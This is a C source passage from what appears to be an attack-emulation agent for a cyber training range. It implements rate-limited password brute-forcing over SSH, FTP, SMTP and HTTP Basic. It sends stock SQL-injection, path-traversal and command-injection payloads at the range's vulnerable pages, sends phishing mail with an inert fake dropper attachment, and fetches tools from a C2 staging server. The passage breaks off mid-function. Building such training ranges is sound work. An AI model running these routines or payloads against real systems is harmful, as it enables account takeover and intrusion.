    act_detail(r, "%s scan of %zu/%zu ports on %s: %zu open%s%s%s, %zu "
               "closed, %zu filtered", mode, sent, n, q->target_addr, nopen,
               nopen ? " (" : "", list, nopen ? ")" : "", nclosed, nfilt);
    rc = 0;

cleanup:
    free(ports);
    free(state);
    return rc;
}

/* ---- cred.bruteforce ----------------------------------------------------- */

enum { TRY_ERROR = -1, TRY_REJECTED = 0, TRY_ACCEPTED = 1 };

typedef struct brute_ctx {
    const act_req *q;
    act_result *r;
    int port;
    const char *path;
    char ehlo[64];
    char last_error[160];
} brute_ctx;

static int try_fail(brute_ctx *b, net_conn *c, const char *what)
{
    snprintf(b->last_error, sizeof(b->last_error), "%s: %s", what,
             c->err ? errname(c->err) : "unexpected reply");
    conn_close(c, b->r);
    return TRY_ERROR;
}

static int try_http_basic(brute_ctx *b, const char *user, const char *pass,
                          long long until)
{
    char cred[600], enc[820], head[512];
    http_resp h;
    net_conn c;
    int rc;

    conn_init(&c);
    if (conn_open(&c, b->q->target_addr, b->port, until) < 0)
        return try_fail(b, &c, "connect");
    snprintf(cred, sizeof(cred), "%s:%s", user, pass);
    b64_encode((const unsigned char *)cred, strlen(cred), enc);
    http_request_line(head, sizeof(head), "GET", b->q->target_addr, b->port,
                      b->path, 0);
    if (conn_sendf(&c, until, "%sUser-Agent: %s\r\nAuthorization: Basic %s\r\n"
                   "Accept: */*\r\nConnection: close\r\n\r\n", head,
                   ACT_USER_AGENT, enc) < 0)
        return try_fail(b, &c, "send");
    if (http_read(&c, &h, 0, 1024 * 1024, NULL, NULL, until) < 0) {
        http_resp_free(&h);
        return try_fail(b, &c, "HTTP");
    }
    rc = h.status == 401 ? TRY_REJECTED : TRY_ACCEPTED;
    http_resp_free(&h);
    conn_close(&c, b->r);
    return rc;
}

static int try_ftp(brute_ctx *b, const char *user, const char *pass,
                   long long until)
{
    net_conn c;
    int code, rc = TRY_REJECTED;

    conn_init(&c);
    if (conn_open(&c, b->q->target_addr, b->port, until) < 0)
        return try_fail(b, &c, "connect");
    if (conn_reply(&c, NULL, 0, until) != 220)
        return try_fail(b, &c, "FTP greeting");
    if (conn_sendf(&c, until, "USER %s\r\n", user) < 0)
        return try_fail(b, &c, "send");
    code = conn_reply(&c, NULL, 0, until);
    if (code == 331) {
        if (conn_sendf(&c, until, "PASS %s\r\n", pass) < 0)
            return try_fail(b, &c, "send");
        code = conn_reply(&c, NULL, 0, until);
    }
    if (code == 230)
        rc = TRY_ACCEPTED;
    else if (code < 0)
        return try_fail(b, &c, "FTP login");
    conn_sendf(&c, until, "QUIT\r\n");
    conn_reply(&c, NULL, 0, min_ll(until, act_now_ms() + 1000));
    conn_close(&c, b->r);
    return rc;
}

static int try_smtp(brute_ctx *b, const char *user, const char *pass,
                    long long until)
{
    unsigned char raw[600];
    char enc[820], text[256];
    size_t ul = strlen(user), pl = strlen(pass);
    net_conn c;
    int code, rc = TRY_REJECTED;

    conn_init(&c);
    if (ul + pl + 2 > sizeof(raw)) {
        snprintf(b->last_error, sizeof(b->last_error), "credential too long");
        return TRY_ERROR;
    }
    if (conn_open(&c, b->q->target_addr, b->port, until) < 0)
        return try_fail(b, &c, "connect");
    if (conn_reply(&c, NULL, 0, until) != 220)
        return try_fail(b, &c, "SMTP greeting");
    if (conn_sendf(&c, until, "EHLO %s\r\n", b->ehlo) < 0 ||
        conn_reply(&c, NULL, 0, until) != 250)
        return try_fail(b, &c, "EHLO");
    /* AUTH PLAIN: authzid NUL authcid NUL password. */
    raw[0] = '\0';
    memcpy(raw + 1, user, ul);
    raw[1 + ul] = '\0';
    memcpy(raw + 2 + ul, pass, pl);
    b64_encode(raw, ul + pl + 2, enc);
    if (conn_sendf(&c, until, "AUTH PLAIN %s\r\n", enc) < 0)
        return try_fail(b, &c, "send");
    code = conn_reply(&c, text, sizeof(text), until);
    if (code == 235) {
        rc = TRY_ACCEPTED;
    } else if (code != 535) {
        if (code > 0)
            snprintf(b->last_error, sizeof(b->last_error), "AUTH PLAIN: %s",
                     text);
        else
            snprintf(b->last_error, sizeof(b->last_error), "AUTH PLAIN: %s",
                     errname(c.err));
        rc = TRY_ERROR;
    }
    conn_sendf(&c, until, "QUIT\r\n");
    conn_reply(&c, NULL, 0, min_ll(until, act_now_ms() + 1000));
    conn_close(&c, b->r);
    return rc;
}

/* Reads what the child wrote on the pty into buf (appending, bounded);
 * returns 0, or -1 at end (the child closed it). */
static int pty_read(int fd, char *buf, size_t *len, size_t cap)
{
    char tmp[512];
    ssize_t n;

    for (;;) {
        n = read(fd, tmp, sizeof(tmp));
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
            return 0;
        if (n <= 0)
            return -1; /* EIO once the child has gone */
        if (*len + (size_t)n >= cap) {
            /* Keep the tail: prompts and errors come last. */
            size_t drop = *len + (size_t)n - cap + 1;
            if (drop > *len)
                drop = *len;
            memmove(buf, buf + drop, *len - drop);
            *len -= drop;
        }
        n = min_ll(n, (long long)(cap - 1 - *len));
        memcpy(buf + *len, tmp, (size_t)n);
        *len += (size_t)n;
        buf[*len] = '\0';
    }
}

/* ssh through the image's dropbear client on a pty: the password goes in
 * at its prompt, once; a second prompt is the server's "no" and ends the
 * try, so every attempt is exactly one password guess on the wire (with
 * DROPBEAR_PASSWORD dbclient would repeat it until the server's limit).
 * `-y -y` skips host keys; `-b :PORT` pins the source port so the flow can
 * be named. */
static int try_ssh(brute_ctx *b, const char *user, const char *pass,
                   long long until)
{
    char portarg[16], bindarg[24], out[2048], srcs[INET_ADDRSTRLEN] = "";
    struct sockaddr_in sa, src;
    socklen_t sl = sizeof(sa);
    size_t olen = 0, seen = 0;
    int fd = -1, status = 0, sport = 0, tfd, exited = 0, prompts = 0;
    int rc = TRY_ERROR;
    pid_t pid;

    out[0] = '\0';
    /* A free source port from the kernel. */
    tfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    if (tfd >= 0 && bind(tfd, (struct sockaddr *)&sa, sizeof(sa)) == 0 &&
        getsockname(tfd, (struct sockaddr *)&sa, &sl) == 0)
        sport = ntohs(sa.sin_port);
    if (tfd >= 0)
        close(tfd);
    if (sa_make(b->q->target_addr, b->port, &sa) == 0 &&
        route_src(&sa, &src) == 0)
        inet_ntop(AF_INET, &src.sin_addr, srcs, sizeof(srcs));
    snprintf(portarg, sizeof(portarg), "%d", b->port);
    snprintf(bindarg, sizeof(bindarg), ":%d", sport);
    pid = forkpty(&fd, NULL, NULL, NULL);
    if (pid < 0) {
        snprintf(b->last_error, sizeof(b->last_error), "forkpty: %s",
                 strerror(errno));
        return TRY_ERROR;
    }
    if (pid == 0) {
        char *const envp[] = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/",
                              "TERM=dumb", NULL};
        char *argv[16];
        int k = 0;
        argv[k++] = "dbclient";
        argv[k++] = "-y";
        argv[k++] = "-y";
        argv[k++] = "-T";
        argv[k++] = "-p";
        argv[k++] = portarg;
        argv[k++] = "-l";
        argv[k++] = (char *)user;
        if (sport > 0) {
            argv[k++] = "-b";
            argv[k++] = bindarg;
        }
        argv[k++] = (char *)b->q->target_addr;
        argv[k++] = "true";
        argv[k] = NULL;
        execve("/usr/bin/dbclient", argv, envp);
        execvpe("dbclient", argv, envp);
        dprintf(2, "cannot run dbclient: %s\n", strerror(errno));
        _exit(127);
    }
    fcntl(fd, F_SETFL, O_NONBLOCK);
    for (;;) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        long long left = until - act_now_ms();
        int gone;
        if (left <= 0)
            break;
        poll(&p, 1, (int)min_ll(left, 100));
        gone = pty_read(fd, out, &olen, sizeof(out)) < 0;
        /* Count prompts in what arrived since the last look. */
        if (seen > olen)
            seen = 0;
        while (strstr(out + seen, "assword:") != NULL) {
            seen = (size_t)(strstr(out + seen, "assword:") - out) + 8;
            if (++prompts == 1) {
                char line[600];
                int n = snprintf(line, sizeof(line), "%s\n", pass);
                if (n > 0 && (size_t)n < sizeof(line) &&
                    write(fd, line, (size_t)n) < 0)
                    break;
            }
        }
        if (prompts >= 2) {
            rc = TRY_REJECTED; /* asked again: the password was wrong */
            break;
        }
        if (waitpid(pid, &status, WNOHANG) == pid) {
            exited = 1;
            pty_read(fd, out, &olen, sizeof(out));
            break;
        }
        if (gone && waitpid(pid, &status, 0) == pid) {
            exited = 1;
            break;
        }
    }
    if (!exited) {
        kill(pid, SIGKILL);
        waitpid(pid, &status, 0);
    }
    close(fd);
    act_flow_add(b->r, "tcp", srcs, sport, b->q->target_addr, b->port, 0, 0);
    if (rc == TRY_REJECTED)
        return rc;
    if (exited && WIFEXITED(status) && WEXITSTATUS(status) == 0 &&
        prompts == 1)
        return TRY_ACCEPTED;
    if (!exited) {
        snprintf(b->last_error, sizeof(b->last_error), "ssh: timed out");
    } else {
        /* dbclient's last words: "Connect failed: Connection refused",
         * "No auth methods could be used" … */
        char line[200];
        const char *e = strstr(out, "exited: ");
        e = e ? e + 8 : out;
        sanitize(e, strcspn(e, "\r\n"), line, sizeof(line));
        snprintf(b->last_error, sizeof(b->last_error), "ssh: %s",
                 line[0] ? line : "dbclient failed");
    }
    return TRY_ERROR;
}

int act_cred_bruteforce(const act_req *q, act_result *r)
{
    const char *service = act_param_str(q, "service", "ssh");
    const json_t *users = json_object_get(q->params, "users");
    const json_t *pws = json_object_get(q->params, "passwords");
    size_t nu = json_array_size(users), np = json_array_size(pws);
    long long attempts = act_param_int(q, "attempts", 100);
    long long rate = act_param_int(q, "rate", 5);
    long long stop_at = act_stop_at(q), t0, per;
    long long tried = 0, rejected = 0, errors = 0, consecutive = 0;
    const char *found_user = NULL, *found_pass = NULL;
    int (*try_fn)(brute_ctx *, const char *, const char *, long long) = NULL;
    int dport = 22;
    brute_ctx b;
    size_t ui, pi;

    memset(&b, 0, sizeof(b));
    b.q = q;
    b.r = r;
    b.path = act_param_str(q, "path", "/");
    host_id(b.ehlo, sizeof(b.ehlo));
    if (strcmp(service, "http-basic") == 0) {
        try_fn = try_http_basic;
        dport = 80;
    } else if (strcmp(service, "ftp") == 0) {
        try_fn = try_ftp;
        dport = 21;
    } else if (strcmp(service, "smtp") == 0) {
        try_fn = try_smtp;
        dport = 25;
    } else {
        try_fn = try_ssh;
        dport = 22;
    }
    b.port = (int)act_param_int(q, "port", dport);
    per = strcmp(service, "ssh") == 0 ? 15 * SEC : IO_TIMEOUT_MS;
    if ((long long)(nu * np) < attempts)
        attempts = (long long)(nu * np);
    t0 = act_now_ms();
    /* Every password for one user, then the next user (hydra's order). */
    for (ui = 0; ui < nu && found_user == NULL; ui++) {
        for (pi = 0; pi < np && found_user == NULL; pi++) {
            const char *u = json_string_value(json_array_get(users, ui));
            const char *p = json_string_value(json_array_get(pws, pi));
            long long due = t0 + tried * 1000 / rate;
            int res;
            if (tried >= attempts || due >= stop_at)
                goto done;
            sleep_until(due);
            res = try_fn(&b, u, p, min_ll(stop_at, act_now_ms() + per));
            tried++;
            if (res == TRY_ACCEPTED) {
                found_user = u;
                found_pass = p;
            } else if (res == TRY_REJECTED) {
                rejected++;
                consecutive = 0;
            } else {
                errors++;
                /* A service that is down or blocked: stop hammering. */
                if (++consecutive >= 5)
                    goto done;
            }
        }
    }

done:
    json_object_set_new(r->evidence, "service", json_string(service));
    json_object_set_new(r->evidence, "port", json_integer(b.port));
    json_object_set_new(r->evidence, "attempts", json_integer(tried));
    json_object_set_new(r->evidence, "rejected", json_integer(rejected));
    json_object_set_new(r->evidence, "errors", json_integer(errors));
    if (b.last_error[0])
        json_object_set_new(r->evidence, "last_error",
                            json_string(b.last_error));
    if (found_user != NULL) {
        json_object_set_new(r->evidence, "found",
                            json_pack("{s:s, s:s}", "user", found_user,
                                      "password", found_pass));
        r->succeeded = 1;
        act_detail(r, "%s on %s:%d: %s's password found after %lld attempts",
                   service, q->target_addr, b.port, found_user, tried);
    } else {
        json_object_set_new(r->evidence, "found", json_null());
        act_detail(r, "%s on %s:%d: no password worked in %lld attempts "
                   "(%lld rejected, %lld errors%s%s)", service,
                   q->target_addr, b.port, tried, rejected, errors,
                   b.last_error[0] ? ": " : "", b.last_error);
    }
    return 0;
}

/* ---- web.exploit --------------------------------------------------------- */

/* Stock payloads for the server image's intranet application
 * (agents/images/rootfs/server/srv/www/cgi-bin): the parameter each page
 * reads, a payload that works there, and text the answer then contains. */
static const struct {
    const char *kind, *param, *payload, *method, *marker, *extra;
} exploit_stock[] = {
    /* login.cgi pastes user and pass into SQL: the UNION lists every
     * account's plain-text password, and the page greets the first row. */
    {"sqli", "user", "' UNION SELECT username,password,role FROM users--",
     "POST", "Welcome,", "pass=x"},
    /* view.cgi joins file to /srv/www/files unchecked. */
    {"traversal", "file", "../../../../etc/passwd", "GET", "root:x:0:0:", NULL},
    /* ping.cgi runs `ping -c 2 -W 2 $host` through sh -c. */
    {"cmdi", "host", "127.0.0.1;id", "GET", "uid=", NULL},
};

int act_web_exploit(const act_req *q, act_result *r)
{
    const char *kind = act_param_str(q, "kind", "sqli");
    const char *path = act_param_str(q, "path", "/");
    int port = (int)act_param_int(q, "port", 80);
    long long requests = act_param_int(q, "requests", 1), i, matched = 0;
    long long stop_at = act_stop_at(q), last_bytes = 0;
    const char *param = NULL, *payload = NULL, *method = NULL, *expect = NULL;
    const char *extra = NULL;
    char *enc = NULL, *form = NULL, *target = NULL, head[1024], err[128] = "";
    char snippet[256] = "";
    size_t k, formlen;
    int last_status = 0, rc = -1;

    for (k = 0; k < sizeof(exploit_stock) / sizeof(exploit_stock[0]); k++)
        if (strcmp(exploit_stock[k].kind, kind) == 0)
            break;
    if (k == sizeof(exploit_stock) / sizeof(exploit_stock[0])) {
        act_detail(r, "unknown exploit kind %s", kind);
        return -1;
    }
    param = act_param_str(q, "param", exploit_stock[k].param);
    payload = act_param_str(q, "payload", exploit_stock[k].payload);
    method = act_param_str(q, "method", exploit_stock[k].method);
    expect = act_param_str(q, "expect", exploit_stock[k].marker);
    /* The stock companion field only goes with the stock parameter. */
    if (act_param_str(q, "param", NULL) == NULL)
        extra = exploit_stock[k].extra;
    enc = malloc(strlen(payload) * 3 + 1);
    formlen = strlen(param) + strlen(payload) * 3 + (extra ? strlen(extra) : 0)
              + 4;
    form = malloc(formlen);
    target = malloc(strlen(path) + formlen + 2);
    if (enc == NULL || form == NULL || target == NULL) {
        act_detail(r, "out of memory");
        goto cleanup;
    }
    url_encode(payload, enc, strlen(payload) * 3 + 1);
    snprintf(form, formlen, "%s=%s%s%s", param, enc, extra ? "&" : "",
             extra ? extra : "");
    if (strcmp(method, "GET") == 0)
        sprintf(target, "%s%c%s", path, strchr(path, '?') ? '&' : '?', form);
    else
        sprintf(target, "%s", path);
    if (strlen(target) > 1800) {
        act_detail(r, "request line too long");
        goto cleanup;
    }
    for (i = 0; i < requests && act_now_ms() < stop_at; i++) {
        long long until = min_ll(stop_at, act_now_ms() + IO_TIMEOUT_MS);
        http_resp h;
        net_conn c;
        const char *hit = NULL;
        int ok;
        if (i > 0)
            sleep_until(min_ll(stop_at, act_now_ms() + 200));
        conn_init(&c);
        memset(&h, 0, sizeof(h));
        ok = conn_open(&c, q->target_addr, port, until) == 0;
        if (ok) {
            http_request_line(head, sizeof(head), method, q->target_addr, port,
                              target, 0);
            if (strcmp(method, "POST") == 0)
                ok = conn_sendf(&c, until, "%sUser-Agent: %s\r\nAccept: */*\r\n"
                                "Content-Type: application/x-www-form-urlencoded"
                                "\r\nContent-Length: %zu\r\nConnection: close"
                                "\r\n\r\n%s", head, ACT_USER_AGENT,
                                strlen(form), form) == 0;
            else
                ok = conn_sendf(&c, until, "%sUser-Agent: %s\r\nAccept: */*\r\n"
                                "Connection: close\r\n\r\n", head,
                                ACT_USER_AGENT) == 0;
        }
        if (ok)
            ok = http_read(&c, &h, 256 * 1024, HTTP_MAX_BODY, NULL, NULL,
                           until) == 0;
        if (!ok) {
            snprintf(err, sizeof(err), "%s", errname(c.err ? c.err : EPROTO));
        } else {
            last_status = h.status;
            last_bytes = h.body;
            hit = strstr(h.keep, expect);
            if (hit != NULL) {
                size_t off = (size_t)(hit - h.keep);
                size_t from = off > 40 ? off - 40 : 0;
                size_t len = min_ll(200, (long long)(h.keep_len - from));
                if (matched == 0)
                    sanitize(h.keep + from, len, snippet, sizeof(snippet));
                matched++;
            }
        }
        http_resp_free(&h);
        conn_close(&c, r);
    }
    json_object_set_new(r->evidence, "kind", json_string(kind));
    json_object_set_new(r->evidence, "method", json_string(method));
    json_object_set_new(r->evidence, "path", json_string(path));
    json_object_set_new(r->evidence, "param", json_string(param));
    json_object_set_new(r->evidence, "payload", json_string(payload));
    json_object_set_new(r->evidence, "expect", json_string(expect));
    json_object_set_new(r->evidence, "requests", json_integer(i));
    json_object_set_new(r->evidence, "matched", json_integer(matched));
    json_object_set_new(r->evidence, "status", json_integer(last_status));
    json_object_set_new(r->evidence, "bytes", json_integer(last_bytes));
    json_object_set_new(r->evidence, "snippet", json_string(snippet));
    r->succeeded = matched > 0;
    if (matched > 0)
        act_detail(r, "%s against http://%s:%d%s worked: the answer (HTTP %d, "
                   "%lld bytes) contains \"%.60s\"", kind, q->target_addr, port,
                   path, last_status, last_bytes, expect);
    else if (last_status > 0)
        act_detail(r, "%s against http://%s:%d%s failed: HTTP %d without "
                   "\"%.60s\"", kind, q->target_addr, port, path, last_status,
                   expect);
    else
        act_detail(r, "%s against http://%s:%d%s failed: %s", kind,
                   q->target_addr, port, path, err[0] ? err : "no answer");
    rc = 0;

cleanup:
    free(enc);
    free(form);
    free(target);
    return rc;
}

/* ---- phish.deliver ------------------------------------------------------- */

/* Header text without CR/LF (no header injection), RFC 2047 encoded when it
 * is not plain ASCII. */
static void mime_header_text(const char *in, char *out, size_t len)
{
    char clean[512];
    size_t i, n = 0;
    int ascii = 1;

    for (i = 0; in[i] && n + 1 < sizeof(clean); i++) {
        unsigned char c = (unsigned char)in[i];
        clean[n++] = (c == '\r' || c == '\n') ? ' ' : (char)c;
        if (c >= 0x80)
            ascii = 0;
    }
    clean[n] = '\0';
    if (ascii) {
        snprintf(out, len, "%s", clean);
        return;
    }
    if (len >= 13 + (n + 2) / 3 * 4) {
        char enc[700];
        b64_encode((const unsigned char *)clean, n, enc);
        snprintf(out, len, "=?UTF-8?B?%s?=", enc);
    } else {
        snprintf(out, len, "(subject)");
    }
}

/* An address for MAIL FROM / RCPT TO: no spaces, brackets or line breaks. */
static int mail_addr_ok(const char *s)
{
    size_t n = strlen(s);

    if (n == 0 || n > 254)
        return 0;
    for (; *s; s++)
        if ((unsigned char)*s <= ' ' || *s == '<' || *s == '>' || *s == 0x7f)
            return 0;
    return 1;
}

/* Appends text to the message, doubling a leading '.' on every line (SMTP
 * transparency) and ending lines with CR LF. */
static int msg_add(char **buf, size_t *len, size_t *cap, const char *text)
{
    size_t need = strlen(text) * 2 + 3;
    const char *p = text;
    int bol = *len == 0 || (*len >= 2 && (*buf)[*len - 1] == '\n');

    if (*len + need > *cap) {
        size_t ncap = (*cap ? *cap : 4096);
        char *n = NULL;
        while (ncap < *len + need)
            ncap *= 2;
        n = realloc(*buf, ncap);
        if (n == NULL)
            return -1;
        *buf = n;
        *cap = ncap;
    }
    for (; *p; p++) {
        if (bol && *p == '.')
            (*buf)[(*len)++] = '.';
        if (*p == '\n') {
            if (*len == 0 || (*buf)[*len - 1] != '\r')
                (*buf)[(*len)++] = '\r';
            (*buf)[(*len)++] = '\n';
            bol = 1;
            continue;
        }
        (*buf)[(*len)++] = *p;
        bol = 0;
    }
    return 0;
}

/* The attachment: a small fake executable, the same bytes for the same
 * seed, with a marker a trainee can find in a capture or a mailbox. */
static unsigned char *fake_attachment(const act_req *q, const char *name,
                                      size_t *len)
{
    size_t n = 2048, i, off;
    unsigned char *b = malloc(n);
    rng g;

    if (b == NULL)
        return NULL;
    rng_seed(&g, q->seed, "attachment");
    for (i = 0; i < n; i++)
        b[i] = (unsigned char)rng_next(&g);
    b[0] = 'M';
    b[1] = 'Z';
    off = 64;
    snprintf((char *)b + off, n - off,
             "This program cannot be run in DOS mode. CYRANGE-EXERCISE "
             "implant dropper %s (step %s)", name, q->step);
    *len = n;
    return b;
}

int act_phish_deliver(const act_req *q, act_result *r)
{
    const char *mailbox = act_param_str(q, "mailbox", "");
    const char *from = act_param_str(q, "from", "");
    const char *subject = act_param_str(q, "subject", "");
    const char *body = act_param_str(q, "body", NULL);
    const char *attach = act_param_str(q, "attachment", NULL);
    const char *link = act_param_str(q, "link", NULL);
    int port = (int)act_param_int(q, "port", 25);
    long long stop_at = act_stop_at(q);
    long long until = min_ll(stop_at, act_now_ms() + 60 * SEC);
    char ehlo[64], subj[800], fromh[300], line[2048], text[256] = "";
    char msgid[128], date[64], boundary[64], aname[200];
    char *msg = NULL, *b64 = NULL;
    unsigned char *att = NULL;
    size_t mlen = 0, mcap = 0, alen = 0, i;
    struct tm tm;
    time_t now = time(NULL);
    const char *dom = strchr(from, '@');
    net_conn c;
    int code, rc = -1;
    rng g;

    conn_init(&c);
    if (!mail_addr_ok(mailbox) || !mail_addr_ok(from)) {
        act_detail(r, "mailbox and from must be plain mail addresses");
        return -1;
    }
    host_id(ehlo, sizeof(ehlo));
    rng_seed(&g, q->seed, "phish");
    mime_header_text(subject, subj, sizeof(subj));
    mime_header_text(from, fromh, sizeof(fromh));
    gmtime_r(&now, &tm);
    strftime(date, sizeof(date), "%a, %d %b %Y %H:%M:%S +0000", &tm);
    snprintf(msgid, sizeof(msgid), "<%016llx.%s@%s>",
             (unsigned long long)rng_next(&g), q->step,
             dom ? dom + 1 : "localhost");
    snprintf(boundary, sizeof(boundary), "=_%016llx",
             (unsigned long long)rng_next(&g));
    if (attach != NULL)
        mime_header_text(attach, aname, sizeof(aname));

    /* The message, dot-stuffed as it is built. */
    snprintf(line, sizeof(line), "From: %s\nTo: %s\nSubject: %s\nDate: %s\n"
             "Message-ID: %s\nMIME-Version: 1.0\n", fromh, mailbox, subj, date,
             msgid);
    if (msg_add(&msg, &mlen, &mcap, line) < 0)
        goto nomem;
    if (attach != NULL) {
        snprintf(line, sizeof(line), "Content-Type: multipart/mixed; "
                 "boundary=\"%s\"\n\nThis is a multi-part message in MIME "
                 "format.\n\n--%s\n", boundary, boundary);
        if (msg_add(&msg, &mlen, &mcap, line) < 0)
            goto nomem;
    }
    if (msg_add(&msg, &mlen, &mcap, "Content-Type: text/plain; charset=utf-8\n"
                "Content-Transfer-Encoding: 8bit\n\n") < 0 ||
        msg_add(&msg, &mlen, &mcap, body ? body :
                "Please find the document attached and reply by Friday.") < 0 ||
        msg_add(&msg, &mlen, &mcap, "\n") < 0)
        goto nomem;
    if (link != NULL) {
        snprintf(line, sizeof(line), "\n%s\n", link);
        if (msg_add(&msg, &mlen, &mcap, line) < 0)
            goto nomem;
    }
    if (attach != NULL) {
        att = fake_attachment(q, aname, &alen);
        b64 = att ? malloc((alen + 2) / 3 * 4 + 1) : NULL;
        if (b64 == NULL)
            goto nomem;
        b64_encode(att, alen, b64);
        snprintf(line, sizeof(line), "\n--%s\nContent-Type: "
                 "application/octet-stream; name=\"%s\"\nContent-Disposition: "
                 "attachment; filename=\"%s\"\nContent-Transfer-Encoding: "
                 "base64\n\n", boundary, aname, aname);
        if (msg_add(&msg, &mlen, &mcap, line) < 0)
            goto nomem;
        for (i = 0; i < strlen(b64); i += 76) {
            snprintf(line, sizeof(line), "%.76s\n", b64 + i);
            if (msg_add(&msg, &mlen, &mcap, line) < 0)
                goto nomem;
        }
        snprintf(line, sizeof(line), "\n--%s--\n", boundary);
        if (msg_add(&msg, &mlen, &mcap, line) < 0)
            goto nomem;
    }

    if (conn_open(&c, q->target_addr, port, until) < 0) {
        act_detail(r, "SMTP to %s:%d: %s", q->target_addr, port,
                   errname(c.err));
        goto failed;
    }
    code = conn_reply(&c, text, sizeof(text), until);
    if (code != 220)
        goto smtp_failed;
    if (conn_sendf(&c, until, "EHLO %s\r\n", ehlo) < 0 ||
        (code = conn_reply(&c, text, sizeof(text), until)) != 250)
        goto smtp_failed;
    if (conn_sendf(&c, until, "MAIL FROM:<%s>\r\n", from) < 0 ||
        (code = conn_reply(&c, text, sizeof(text), until)) != 250)
        goto smtp_failed;
    if (conn_sendf(&c, until, "RCPT TO:<%s>\r\n", mailbox) < 0 ||
        ((code = conn_reply(&c, text, sizeof(text), until)) != 250 &&
         code != 251))
        goto smtp_failed;
    if (conn_sendf(&c, until, "DATA\r\n") < 0 ||
        (code = conn_reply(&c, text, sizeof(text), until)) != 354)
        goto smtp_failed;
    if (conn_send(&c, msg, mlen, until) < 0 ||
        conn_sendf(&c, until, ".\r\n") < 0 ||
        (code = conn_reply(&c, text, sizeof(text), until)) != 250)
        goto smtp_failed;
    r->succeeded = 1;
    act_detail(r, "mail \"%.80s\" from %.80s delivered to %.80s via %s:%d "
               "(%s)", subject, from, mailbox, q->target_addr, port, text);
    conn_sendf(&c, until, "QUIT\r\n");
    conn_reply(&c, NULL, 0, min_ll(until, act_now_ms() + 1000));
    goto report;

smtp_failed:
    if (code > 0)
        act_detail(r, "SMTP to %s:%d refused the mail: %s", q->target_addr,
                   port, text);
    else
        act_detail(r, "SMTP to %s:%d: %s", q->target_addr, port,
                   errname(c.err ? c.err : EPROTO));
report:
failed:
    conn_close(&c, r);
    json_object_set_new(r->evidence, "mailbox", json_string(mailbox));
    json_object_set_new(r->evidence, "from", json_string(from));
    json_object_set_new(r->evidence, "subject", json_string(subject));
    json_object_set_new(r->evidence, "message_id", json_string(msgid));
    json_object_set_new(r->evidence, "message_bytes",
                        json_integer((json_int_t)mlen));
    if (attach != NULL)
        json_object_set_new(r->evidence, "attachment",
                            json_pack("{s:s, s:I}", "name", attach, "bytes",
                                      (json_int_t)alen));
    if (link != NULL)
        json_object_set_new(r->evidence, "link", json_string(link));
    json_object_set_new(r->evidence, "smtp_reply", json_string(text));
    rc = 0;
    goto cleanup;

nomem:
    act_detail(r, "out of memory");
cleanup:
    if (c.fd >= 0)
        conn_close(&c, r);
    free(msg);
    free(att);
    free(b64);
    return rc;
}

/* ---- tool.transfer ------------------------------------------------------- */

typedef struct url_parts {
    char host[256];
    int port;
    char path[1024];
} url_parts;

/* "http://HOST[:PORT][/PATH]" */
static int url_split(const char *url, url_parts *u)
{
    const char *h = url + 7, *e = NULL, *p = NULL;

    if (strncmp(url, "http://", 7) != 0)
        return -1;
    e = h + strcspn(h, ":/?#");
    if (e == h || (size_t)(e - h) >= sizeof(u->host))
        return -1;
    memcpy(u->host, h, (size_t)(e - h));
    u->host[e - h] = '\0';
    u->port = 80;
    p = e;
    if (*p == ':') {
        char *end = NULL;
        long v = strtol(p + 1, &end, 10);
        if (end == p + 1 || v < 1 || v > 65535)
            return -1;
        u->port = (int)v;
        p = end;
    }
    if (*p == '\0')
        p = "/";
    if (*p != '/' || strlen(p) >= sizeof(u->path))
        return -1;
    snprintf(u->path, sizeof(u->path), "%s", p);
    return 0;
}

typedef struct file_sink {
    int fd;
} file_sink;

static int file_sink_write(void *ctx, const char *buf, size_t len)
{
    file_sink *f = ctx;

    while (len > 0) {
        ssize_t n = write(f->fd, buf, len);
        if (n < 0 && errno == EINTR)
            continue;
        if (n <= 0)
            return -1;
        buf += n;
        len -= (size_t)n;
    }
    return 0;
}

static int mkparents(char *path)
{
    char *s = path + 1;

    for (; (s = strchr(s, '/')) != NULL; s++) {
        *s = '\0';
        if (mkdir(path, 0755) < 0 && errno != EEXIST) {
            *s = '/';
            return -1;
        }
        *s = '/';
    }
    return 0;
}

int act_tool_transfer(const act_req *q, act_result *r)
{
    const char *path = act_param_str(q, "path", "");
    const char *url = act_param_str(q, "url", NULL);
    long long limit = act_param_int(q, "bytes", 10 * 1024 * 1024);
    long long stop_at = act_stop_at(q);
    long long until = min_ll(stop_at, act_now_ms() + 120 * SEC);
    char dflt[1200], dest[PATH_MAX], tmp[PATH_MAX + 16], head[1400];
    const char *base = strrchr(path, '/'), *addr = NULL, *c2 = NULL;
    file_sink fs = {-1};
    url_parts u;
    http_resp h;
    net_conn c;
    int ok = 0;

    memset(&h, 0, sizeof(h));
    conn_init(&c);
    base = base ? base + 1 : path;
    if (path[0] != '/' || base[0] == '\0' || strstr(path, "/../") != NULL ||
        act_path(q, path, dest, sizeof(dest)) < 0) {
        act_detail(r, "path must be an absolute file path");
        return -1;
    }
    if (url == NULL) {
        /* Default: the attacker's staging server, /tools/<name>. */
        c2 = q->c2_addr ? q->c2_addr : q->target_addr;
        if (c2 == NULL) {
            act_detail(r, "no url and no C2 or target to fetch from");
            return -1;
        }
        snprintf(dflt, sizeof(dflt), "http://%s:%d/tools/%s", c2,
                 q->c2_addr && q->c2_port ? q->c2_port : 80, base);
        url = dflt;
    }
    if (url_split(url, &u) < 0) {
        act_detail(r, "malformed url %s", url);
        return -1;
    }
    /* A name is only ever the C2's domain (act_req_parse checked it). */
    addr = proto_addr_in_range(u.host) ? u.host : q->c2_addr;
    if (addr == NULL) {
        act_detail(r, "url host %s is not an address", u.host);
        return -1;
    }
    snprintf(tmp, sizeof(tmp), "%s.part", dest);
    if (mkparents(dest) < 0 ||
        (fs.fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755)) <
            0) {
        act_detail(r, "cannot write %s: %s", path, strerror(errno));
        return -1;
    }
    if (conn_open(&c, addr, u.port, until) < 0) {
        act_detail(r, "GET %s: %s", url, errname(c.err));
        goto done;
    }
    http_request_line(head, sizeof(head), "GET", u.host, u.port, u.path, 0);
    if (conn_sendf(&c, until, "%sUser-Agent: Wget/1.21.3\r\nAccept: */*\r\n"
                   "Connection: close\r\n\r\n", head) < 0 ||
